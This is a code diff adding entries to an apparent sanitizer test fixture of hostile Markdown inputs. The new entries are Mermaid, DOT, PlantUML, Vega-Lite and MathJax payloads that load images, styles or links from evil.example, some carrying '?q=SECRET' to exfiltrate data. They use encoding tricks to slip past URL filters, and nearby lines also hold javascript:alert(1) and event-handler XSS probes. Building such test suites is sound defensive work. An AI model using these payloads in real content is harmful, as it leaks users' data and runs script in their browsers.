@@ -111,6 +111,38 @@ export const hostileMarkdown: Readonly<Record<string, string>> = {
   'a formula that links':
     '$\\href{javascript:alert(1)}{x}$ \\(\\url{//evil.example}\\) $$\\includegraphics{//evil.example/p.png}$$',
   'a formula in a fence': '```math\n\\href{https:evil.example}{x}\n```',
+  'a diagram with an address without slashes':
+    "```mermaid\nflowchart TD\nA@{ img: 'https:evil.example/p.png?q=SECRET' }\n```",
+  'a diagram with one slash':
+    '```mermaid\nflowchart TD\nA@{ img: \'https:/evil.example/p.png\' }\nclick A href "http:/evil.example"\n```',
+  'a diagram with backslashes': "```Mermaid\nflowchart TD\nA@{ img: 'https:\\\\evil.example/p.png' }\n```",
+  'a diagram with a slash and a backslash': '~~~mermaid\nflowchart TD\nA[a]\nclick A href "/\\evil.example" "tip"\n~~~',
+  'a diagram in a list with an address in escapes':
+    '- a\n\n  ```mermaid\n  flowchart TD\n  A@{ img: "\\x2f\\x2fevil.example/p" }\n  B@{ img: "\\x68ttps\\x3a\\x2fevil.example/p" }\n  ```',
+  'a diagram with an address cut by escapes':
+    '```mermaid\nflowchart TD\nA@{ img: "ht\\ntps:evil.example/p" }\nB@{ img: "http\\ts:\\nevil.example" }\nC@{ img: "htt\\\n  ps:evil.example" }\n```',
+  'a diagram with an address in entities':
+    '```mermaid\nflowchart TD\nA[a]\nclick A href "https#58;evil.example"\nclick A href "#104;ttps#colon;evil.example"\n```',
+  'a diagram with an address in percents':
+    '```mermaid\nflowchart TD\nclick A href "%68ttps:evil.example"\nclick B href "ht%74p:evil.example"\n```',
+  'a diagram with a style':
+    '```mermaid\nflowchart TD\nA[a]\nstyle A fill:url(https:evil.example/p.svg#a)\nclassDef c background:url(\\68 ttps\\3a evil.example)\n```',
+  'a diagram with settings':
+    '```mermaid\n%%{init: {"fontFamily": "x;background:url(https:evil.example/p.png?q=SECRET)"}}%%\nflowchart TD\nA[a]\n```',
+  'a diagram with settings in front':
+    '```mermaid\n---\nconfig:\n  fontFamily: "x;background:url(https:evil.example/p.png)"\n---\nflowchart TD\nA[a]\n```',
+  'a diagram that is never closed': "```mermaid\nflowchart TD\nA@{ img: 'https:evil.example/p.png' }",
+  'graphs with addresses without slashes':
+    '```dot\ndigraph { a [URL="https:evil.example", image="http:/evil.example/p.png"] }\n```\n\n```plantuml\nBob -> A : [[https:evil.example x]]\n!include http:evil.example/x\n```\n\n```echarts\n{"series": [{"symbol": "image://https:evil.example/p.png"}], "x": "\\u0068ttps:evil.example"}\n```\n\n```d2\na: { icon: https:evil.example/p.png }\n```',
+  'a chart with an address without slashes': '```vega-lite\n{"data": {"url": "https:evil.example/d.csv"}}\n```',
+  'a chart that builds its address':
+    '```vega-lite\n{"data": {"url": {"expr": "\'ht\' + \'tps:/\' + \'/evil.example\'"}}}\n```',
+  'a formula with a style':
+    '$\\style{background:url(http:evil.example/p.png)}{x}$ \\(\\bbox[background-image:url(https:evil.example/p.png)]{y}\\)',
+  'a formula with an element':
+    '\\(\\mmlToken{mi}[href="https:evil.example"]{z}\\) $$\\mmlToken{mi}[href="/\\evil.example"]{z}$$',
+  'a formula that defines a command': '$\\def\\x{\\style}\\x{background:url(https:evil.example)}{y} \\require{html}$',
+  'a formula behind two backslashes': '$$\na \\\\\\href{https:evil.example}{x}\n$$',
   'an element with an odd name': '<x_y onmouseover=alert(1)> <a.b onclick=x> <a= onclick=x> <a, onclick=x>',
   'an element behind a backslash in its name': '<\\!-- <\\/p>',
   'a name with a path': 'evil.example/p.png evil.com/p?q=secret evil.com?q=secret evil.com:8080/x',
